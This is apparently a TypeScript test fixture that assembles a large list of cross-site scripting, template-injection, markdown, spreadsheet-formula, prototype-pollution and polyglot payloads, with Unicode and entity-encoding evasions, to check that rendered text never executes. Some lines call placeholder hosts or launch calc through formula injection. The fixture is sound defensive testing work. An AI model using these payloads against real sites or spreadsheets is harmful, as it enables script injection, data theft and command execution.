/**
 * Texts that would run, or would become something other than a text, were they ever taken for
 * anything but one. Whatever runs calls `ran`; whatever becomes an element bears `data-ran`.
 */
import { ELEMENTS } from './elements.ts'
import { lines } from './lines.ts'

const KINDS: Record<string, readonly string[]> = {
  ...ELEMENTS,

  addresses: lines`
javascript:ran()
JaVaScRiPt:ran()
javascript:ran()//https://linli.example/
javascript://%0aran()
javascript:/*https://linli.example*/ran()
java	script:ran()
javascript&colon;ran()
&#106;avascript:ran()
&#x6A;avascript&#58;ran()
%6aavascript:ran()
javascript:%72an()
vbscript:ran
data:text/html,<script>ran()</script>
data:text/html;base64,PHNjcmlwdD50b3AucmFuKCk8L3NjcmlwdD4=
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran()'/>
blob:null/ran()
//linli.invalid/x
https://linli.invalid/?javascript:ran()
\\linli.invalid\x
/\linli.invalid
../../../desk/matters
?view=all&words=javascript:ran()
#javascript:ran()
view-source:javascript:ran()
feed:javascript:ran()
tel:1;javascript:ran()
mailto:x?body=<script>ran()</script>
<a href=javascript:ran()>x
<a href="java&#10;script:ran()">x
<a href=//linli.invalid ping=//linli.invalid>x
<area href=javascript:ran()>
<form action=javascript:ran()><button>x
<button formaction=javascript:ran()>x
<iframe src=javascript:ran()>
<iframe srcdoc="<script>top.ran()</script>">
<object data=javascript:ran()>
<object data=data:text/html,<script>top.ran()</script>>
<embed src=javascript:ran()>
<base href=//linli.invalid/>
<base target=_blank href=javascript:/>
<meta http-equiv=refresh content=0;url=javascript:ran()>
<meta http-equiv=refresh content="0;url=//linli.invalid">`,

  'style sheets': lines`
color:red;background:url(//linli.invalid)
}*{background:url(//linli.invalid/x)}
expression(ran())
-moz-binding:url(//linli.invalid/x.xml#x)
behavior:url(x.htc)
<style>@import '//linli.invalid/x.css';</style>
<style>@import "javascript:ran()"</style>
<p data-ran style=x:expression(ran())>
</style><script>ran()</script>
red;}input[value^=a]{background:url(//linli.invalid/a)}`,

  templates: lines`
{{ran()}}
{{7*7}}
{{by}}
{{to}}{{name}}
{{constructor.constructor('ran()')()}}
{{- ran()}}
\${ran()}
\${7*7}
#{ran()}
<%=ran()%>
<%- ran() %>
{%if ran()%}
[[\${ran()}]]
@{ran()}
@(ran())
$t(act.send)
$t(report.discard, {"x":"ran()"})
{by}
%s%s%n
$&$1$\`$'
\$\$
<p v-on:click=ran() v-html=ran()>
<p ng-app ng-init=constructor.constructor('ran()')()>
<p x-data x-init=ran()>
<p hx-on:load=ran() hx-get=//linli.invalid>`,

  markdown: lines`
**bold** _slanted_ ~~gone~~
[press](javascript:ran())
[press]( jAvAsCrIpT:ran() "x")
[x]: javascript:ran()
![x](x"onerror="ran())
![x](//linli.invalid/1.png)
<javascript:ran()>
<https://linli.invalid>
https://linli.invalid/"onmouseover="ran()
# 标题
> 引用 <svg onload=ran()>
\`\`\`<svg onload=ran()>\`\`\`
| a | <svg onload=ran()> |
<!-- x --!><svg onload=ran()>
[[javascript:ran()|x]]`,

  'letters in disguise': lines`
&lt;script&gt;ran()&lt;/script&gt;
&amp;lt;svg onload=ran()&amp;gt;
&#60;svg onload=ran()&#62;
&#x3c;svg onload=ran()&#x3e;
&#0000060svg onload=ran()>
&lt svg onload=ran()&gt
&nbsp;&copy;&notanentity;&
%3Csvg%20onload=ran()%3E
%253Csvg%2520onload=ran()%253E
\u003csvg onload=ran()\u003e
\x3csvg onload=ran()\x3e
＜script＞ran()＜/script＞
＜svg onload＝ran()＞
﹤svg onload=ran()﹥
‹svg onload=ran()›
+ADw-script+AD4-ran()+ADw-/script+AD4-
<ſcript>ran()</ſcript>
<İmg src=x onerror=ran()>
¼script¾ran()¼/script¾
<svg/onload=ran()>
<svg onload	=	ran()>
ｊａｖａｓｃｒｉｐｔ：ran()`,

  'letters unseen': [
    '\u202Egnp.)(nar\u202C<svg onload=ran()>',
    '\u2066<svg onload=ran()>\u2069',
    '\u200Fابجد <b data-ran>',
    '<\u200Bscript>ran()</\u200Bscript>',
    '<s\u200Dvg onload=ran()>',
    'java\u00ADscript:ran()',
    'java\u200Bscript:ran()',
    '\u2060<img src=x onerror=ran()>\u2060',
    '<svg\u00A0onload=ran()>',
    '<svg\u3000onload=ran()>',
    '<svg\u000Conload=ran()>',
    '<svg\u000Bonload=ran()>',
    '\u2028<script>ran()</script>\u2029',
    '<img src=x\u2028onerror=ran()>',
    '\uFFFD<svg onload=ran()>',
    'Z\u0351\u036B\u0343\u0348<svg onload=ran()>',
    '\u{E003C}\u{E0073}\u{E0076}\u{E0067}\u{E003E}',
    '👩\u200D👩\u200D👧<svg onload=ran()>',
    '\u061C<svg onload=ran()>',
    '\u001B]8;;javascript:ran()\u0007x',
  ],

  formulas: lines`
=ran()
=1+1
=cmd|'/c calc'!A0
=HYPERLINK("//linli.invalid","x")
=IMPORTXML("//linli.invalid","//a")
=WEBSERVICE("//linli.invalid")
+1+1
+cmd|'/c calc'!A0
-2+3
-2+3+cmd|'/c calc'!A0
@SUM(1+1)
@ran
＝1+1
＋1+1
－2+3
＠SUM(1)
'=1+1
''=1+1
"=1+1"
",=1+1,"
x";=1+1;"
x	=1+1
x⏎=1+1
;=1+1
|=1+1
%0A=1+1
=-@+1
=<svg onload=ran()>
==1
_x003D_1+1
_xlfn.ran()`,

  'breaking out of a script': lines`
'-ran()-'
"-ran()-"
';ran();//
";ran();//
\';ran();//
\\";ran();//
\`;ran();//
\${ran()}\`
</script><script>ran()//
'});ran();({x:'
"}];ran();[{"
{"json":"</script><script>ran()"}
{"__proto__":{"ran":1}}
{"dangerouslySetInnerHTML":{"__html":"<svg onload=ran()>"}}
__proto__
constructor
[object Object]
null
*/ran()/*
<!--ran()
-->ran()
//#source=//linli.invalid
<![CDATA[<script>ran()</script>]]>`,

  polyglots: lines`
javascript:/*--></title></style></textarea></script><svg onload=ran()>
'">><marquee><img src=x onerror=ran()></marquee></plaintext\></|\><plaintext/onmouseover=ran()>
jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=ran() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=ran()//>\x3e
'"--></style></script><svg onload=ran()>
<svg onload=ran()>{{ran()}}\${ran()}"-ran()-"
=1+1<svg onload=ran()>[x](javascript:ran())
' or 1=1;--<svg onload=ran()>
../../<svg onload=ran()>?x=#'"
<a href=javascript:ran() onclick="ran()" style=x:expression(ran())>{{ran()}}`,

  'very long': [
    `${'<b>'.repeat(300)}<svg onload=ran()>`,
    `<img src=x ${'a'.repeat(500)}=1 onerror=ran()>`,
    `${'长'.repeat(900)}<svg onload=ran()>`,
    `${'<!--'.repeat(100)}--><svg onload=ran()>`,
    `${'("'.repeat(200)}<svg onload=ran()>`,
    `${'<svg><p>'.repeat(100)}<style><svg onload=ran()>`,
    `${'一行\n'.repeat(200)}<svg onload=ran()>`,
  ],
}

/** The first of each kind, then the second, and so on, as a field keeps them: without space at their ends. */
const kinds = Object.values(KINDS)
const most = Math.max(...kinds.map(({ length }) => length))
const inTurn = Array.from({ length: most }, (_, nth) => kinds.flatMap(kind => kind[nth] ?? []))

/** All of them, each once; any stretch of them holds some of every kind. */
export const PAYLOADS: readonly string[] = [...new Set(inTurn.flat().map(text => text.trim()))]

/** Few, and each would be an element, whatever else it is: so none is harmless on the one page that shows it. */
export const SAMPLE: readonly string[] = [
  '<b data-ran>',
  '<svg onload=ran()>',
  '"><img src onerror=ran()>',
  'javascript:ran()//<b data-ran>',
  '=1+1<b onclick=ran()>',
  '{{ran()}}<b data-ran>',
]
